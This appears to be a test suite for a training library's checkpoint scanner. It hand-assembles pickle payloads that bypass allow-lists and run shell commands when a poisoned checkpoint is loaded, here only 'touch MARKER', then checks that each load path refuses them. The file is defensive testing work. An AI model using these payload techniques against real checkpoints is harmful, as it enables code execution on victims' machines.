"""Crafted checkpoints whose code hides behind "harmless" globals never run, on any load path.

Each payload is assembled here from pickle opcodes (protocol 2 GLOBAL, protocol 4 STACK_GLOBAL,
REDUCE, BUILD) and spliced in front of the real pickle of a checkpoint written by a real tiny
training run, so that the checkpoint still loads completely after the payload ran (what an
attacker wants). Every payload runs ``touch MARKER`` when unpickled the way composer and
torch.distributed.checkpoint unpickle (the positive control shows it), and reaches that only
through globals an allow-list might be tempted to contain:

- ``dataclass_field``: ``dataclass`` and ``field`` as re-exported by torch.distributed.checkpoint,
  applied to its ``SavePlan`` after a BUILD gave it a field whose *name* is code: dataclasses
  pastes the name into the source it execs (the previous scanner allowed all of it);
- ``make_dataclass`` / ``namedtuple``: a fresh class whose ``__init__`` a BUILD sets to
  ``os.system``, then called;
- ``partial``: ``functools.partial(os.system, CMD)()``;
- ``attrgetter``: ``operator.attrgetter("os.system")`` applied to an allowed DCP module;
- ``getattr``: ``getattr(<metadata module>.os, "system")``;
- ``dotted``: ``os.system`` named as the dotted attribute ``os.system`` of an allowed module.

Paths: export-hf of a full checkpoint, of a sharded one and of a LoRA one (the merge path),
load_path and autoresume with a full and with a sharded checkpoint. Each must exit 2 with one
``error:`` paragraph and no traceback, leave no marker and leave the checkpoint where it was.
"""

from __future__ import annotations

import shutil
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from foundry_train.checkpointing.safety import scan_checkpoint
from foundry_train.cli import main

_DCP = "torch.distributed.checkpoint"


def _str(text: str) -> bytes:  # SHORT_BINUNICODE / BINUNICODE
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def _global(module: str, name: str) -> bytes:  # GLOBAL (protocol 0-2)
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _stack_global(module: str, name: str) -> bytes:  # STACK_GLOBAL (protocol 4)
    return _str(module) + _str(name) + b"\x93"


REDUCE, BUILD, TUPLE1, TUPLE2, EMPTY_TUPLE = b"R", b"b", b"\x85", b"\x86", b")"
NONE, EMPTY_DICT, EMPTY_LIST, MARK = b"N", b"}", b"]", b"("
SETITEM, SETITEMS, FALSE = b"s", b"u", b"\x89"


def _slots(**values: bytes) -> bytes:
    """BUILD with slot state: setattr(top of stack, name, value) for each item."""
    items = b"".join(_str(k) + v for k, v in values.items())
    return NONE + EMPTY_DICT + MARK + items + SETITEMS + TUPLE2 + BUILD


def _os_system() -> bytes:  # a dotted name is walked attribute by attribute under protocol 4
    return b"\x80\x04" + _stack_global(f"{_DCP}.metadata", "os.system")


def _call_with(cmd: str) -> bytes:
    return _str(cmd) + TUPLE1 + REDUCE


def dataclass_field(cmd: str) -> bytes:
    # dataclasses execs "def __create_fn__(_type_<name>, MISSING, ...):" then calls it with
    # **locals: the name closes that def (its default runs the command) and opens a new one
    name = f"a=__import__('os').system({cmd!r}),**k):\n return lambda self: None\ndef _x(*a"
    inert = _stack_global(f"{_DCP}.metadata", "field") + EMPTY_TUPLE + REDUCE
    inert += _slots(init=FALSE, repr=FALSE, compare=FALSE)  # only the name reaches the source
    annotations = EMPTY_DICT + _str(name) + _str("int") + SETITEM
    cls = _global(f"{_DCP}.planner", "SavePlan")
    cls += NONE + EMPTY_DICT + MARK + _str("__annotations__") + annotations
    cls += _str(name) + inert + SETITEMS + TUPLE2 + BUILD
    return _global(f"{_DCP}.planner", "dataclass") + cls + TUPLE1 + REDUCE


def make_dataclass(cmd: str) -> bytes:
    cls = _global("dataclasses", "make_dataclass") + _str("X") + EMPTY_LIST + TUPLE2 + REDUCE
    return (
        cls
        + NONE
        + EMPTY_DICT
        + _str("__init__")
        + _os_system()
        + SETITEM
        + TUPLE2
        + BUILD
        + (_call_with(cmd))
    )


def namedtuple(cmd: str) -> bytes:
    cls = _global("collections", "namedtuple") + _str("P") + _str("a") + TUPLE2 + REDUCE
    return (
        cls
        + NONE
        + EMPTY_DICT
        + _str("__init__")
        + _os_system()
        + SETITEM
        + TUPLE2
        + BUILD
        + (_call_with(cmd))
    )


def partial(cmd: str) -> bytes:
    bound = _global("functools", "partial") + _os_system() + _str(cmd) + TUPLE2 + REDUCE
    return bound + EMPTY_TUPLE + REDUCE


def attrgetter(cmd: str) -> bytes:
    getter = _stack_global("operator", "attrgetter") + _call_with("os.system")
    return getter + _global(_DCP, "metadata") + TUPLE1 + REDUCE + _call_with(cmd)


def getattr_(cmd: str) -> bytes:
    module = _global(f"{_DCP}.metadata", "os")
    found = _global("builtins", "getattr") + module + _str("system") + TUPLE2 + REDUCE
    return found + _call_with(cmd)


def dotted(cmd: str) -> bytes:
    return _os_system() + _call_with(cmd)


PAYLOADS: dict[str, Callable[[str], bytes]] = {
    "dataclass_field": dataclass_field,
    "make_dataclass": make_dataclass,
    "namedtuple": namedtuple,
    "partial": partial,
    "attrgetter": attrgetter,
    "getattr": getattr_,
    "dotted": dotted,
}


def splice(real: bytes, payload: bytes) -> bytes:
    """The payload, then POP, then the real pickle: it runs first, and the load still succeeds."""
    assert real[:1] == b"\x80"
    return real[:2] + payload + b"0" + real[2:]


def evil_full(src: Path, dst: Path, payload: bytes) -> Path:
    """A copy of a composer checkpoint whose data.pkl starts with the payload."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            zout.writestr(
                info, splice(data, payload) if info.filename.endswith("/data.pkl") else data
            )
    return dst


def evil_sharded(src: Path, dst: Path, payload: bytes) -> Path:
    """A copy of a sharded checkpoint whose .metadata starts with the payload."""
    shutil.copytree(src, dst)
    (dst / ".metadata").write_bytes(splice((src / ".metadata").read_bytes(), payload))
    return dst


@pytest.fixture(scope="module")
def sharded(baseline: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The baseline's ba10 as a torch.distributed.checkpoint directory (as composer saves it)."""
    import torch.distributed.checkpoint as dcp
    from torch.distributed.checkpoint.default_planner import DefaultSavePlanner

    full = baseline / "ep0-ba10-rank0.pt"
    scan_checkpoint(full)
    state = torch.load(full, map_location="cpu", weights_only=False)
    out = tmp_path_factory.mktemp("sharded") / "ep0-ba10"
    planner = DefaultSavePlanner(dedup_save_to_lowest_rank=True)
    dcp.save(state, storage_writer=dcp.FileSystemWriter(str(out)), planner=planner, no_dist=True)
    return out


def test_each_payload_runs_its_code_when_loaded_unchecked(
    baseline: Path, sharded: Path, tmp_path: Path
) -> None:
    """Positive control, in a child process: torch.load / pickle.load as composer and DCP do."""
    jobs = []
    for name, build in PAYLOADS.items():
        full_marker, meta_marker = tmp_path / f"{name}-full", tmp_path / f"{name}-meta"
        full = evil_full(
            baseline / "ep0-ba2-rank0.pt", tmp_path / name / "c.pt", build(f"touch {full_marker}")
        )
        meta = evil_sharded(sharded, tmp_path / name / "s", build(f"touch {meta_marker}"))
        jobs.append((str(full), str(meta / ".metadata")))
    code = (
        "import pickle, sys, torch\n"
        "for full, meta in eval(sys.argv[1]):\n"
        "    for load in (lambda: torch.load(full, map_location='cpu', weights_only=False),\n"
        "                 lambda: pickle.load(open(meta, 'rb'))):\n"
        "        try:\n"
        "            print(type(load()).__name__)\n"
        "        except Exception as exc:  # some payloads break the load after running\n"
        "            print('failed', exc)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, repr(jobs)], capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 0, done.stderr[-2000:]
    # the dataclass_field one is stealthy: both loads then complete normally
    assert done.stdout.splitlines()[:2] == ["dict", "Metadata"], done.stdout
    for name in PAYLOADS:
        assert (tmp_path / f"{name}-full").exists(), f"{name}: payload did not run from data.pkl"
        assert (tmp_path / f"{name}-meta").exists(), f"{name}: payload did not run from .metadata"


def _refused(argv: list[str], capsys: pytest.CaptureFixture) -> str:
    code = main(argv)
    err = capsys.readouterr().err
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    assert code == 2, err[-2000:]
    assert len(errors) == 1 and "Traceback" not in err, err[-2000:]
    assert "refused" in errors[0] and "nothing was unpickled" in errors[0]
    return errors[0]


def _train_yaml(h: object, assets: dict, path: Path, **extra: object) -> str:
    folder = extra.pop("save_folder", None)
    cfg = h.base_config(assets, folder, **extra)  # type: ignore[attr-defined]
    return str(h.write_config(path, cfg))  # type: ignore[attr-defined]


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_crafted_checkpoint_is_refused_on_every_path(
    payload: str,
    baseline: Path,
    sharded: Path,
    lora_run: Path,
    assets: dict,
    h: object,
    tmp_path: Path,
    capsys: pytest.CaptureFixture,
) -> None:
    marker = tmp_path / "pwned"
    evil = PAYLOADS[payload](f"touch {marker}")
    config = baseline / "foundry_train_config.yaml"
    full = evil_full(baseline / "ep0-ba10-rank0.pt", tmp_path / "full" / "ep0-ba12-rank0.pt", evil)
    shutil.copy(config, full.parent)
    shards = evil_sharded(sharded, tmp_path / "sharded" / "ep0-ba12", evil)
    shutil.copy(config, shards.parent)
    lora = evil_full(lora_run / "ep0-ba2-rank0.pt", tmp_path / "lora" / "ep0-ba4-rank0.pt", evil)
    shutil.copy(lora_run / "foundry_train_config.yaml", lora.parent)
    runs = {
        "export-hf full": ["export-hf", str(full), str(tmp_path / "hf1")],
        "export-hf sharded": ["export-hf", str(shards), str(tmp_path / "hf2")],
        "export-hf LoRA merge": ["export-hf", str(lora), str(tmp_path / "hf3")],
    }
    for kind, ckpt in (("full", full), ("sharded", shards)):
        y = _train_yaml(h, assets, tmp_path / f"load-{kind}.yaml", load_path=str(ckpt))
        runs[f"load_path {kind}"] = ["train", y]
        y = _train_yaml(
            h,
            assets,
            tmp_path / f"resume-{kind}.yaml",
            save_folder=str(ckpt.parent),
            autoresume=True,
        )
        runs[f"autoresume {kind}"] = ["train", y]
    for path, argv in runs.items():
        message = _refused(argv, capsys)
        assert not marker.exists(), f"{payload} ran its code through {path}"
        assert str(full.parent) in message or str(shards.parent) in message or str(lora) in message
    assert full.is_file() and shards.is_dir() and lora.is_file()  # refused, never deleted
    assert not any((tmp_path / f"hf{i}").exists() for i in (1, 2, 3))


def test_torchscript_archive_and_items_outside_the_folder_are_refused(
    sharded: Path, tmp_path: Path
) -> None:
    """torch.load hands a TorchScript zip to torch.jit.load; a DCP item may point anywhere."""
    import dataclasses
    import pickle

    from foundry_train.checkpointing.safety import load_dcp_metadata
    from foundry_train.errors import CheckpointSecurityError

    scripted = tmp_path / "ep0-ba2-rank0.pt"
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), str(scripted))
    with pytest.raises(CheckpointSecurityError, match="not laid out as torch.save writes"):
        scan_checkpoint(scripted)

    outside = tmp_path / "ep0-ba12"
    shutil.copytree(sharded, outside)
    meta = load_dcp_metadata(outside)
    index, info = next(iter(meta.storage_data.items()))
    meta.storage_data[index] = dataclasses.replace(info, relative_path="../secret")
    (outside / ".metadata").write_bytes(pickle.dumps(meta))
    with pytest.raises(CheckpointSecurityError, match="outside the checkpoint folder"):
        scan_checkpoint(outside)
